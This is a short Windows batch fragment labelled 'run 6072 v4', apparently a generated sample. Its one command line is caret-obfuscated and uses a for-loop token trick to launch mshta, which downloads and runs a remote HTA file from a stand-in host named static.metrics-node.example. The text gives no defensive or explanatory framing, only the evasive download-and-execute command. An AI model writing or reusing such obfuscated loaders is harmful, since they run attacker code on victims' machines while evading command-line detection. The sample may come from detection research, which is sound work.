REM run 6072 v4
for /f "tokens=1 delims=;" %%i i^n ("mshta;ydgm;glgn") d^o %%i ^h^ttp://s^tat^ic.^m^et^rics-^no^de.^e^x^a^mple/u^p^d^at^e.h^ta
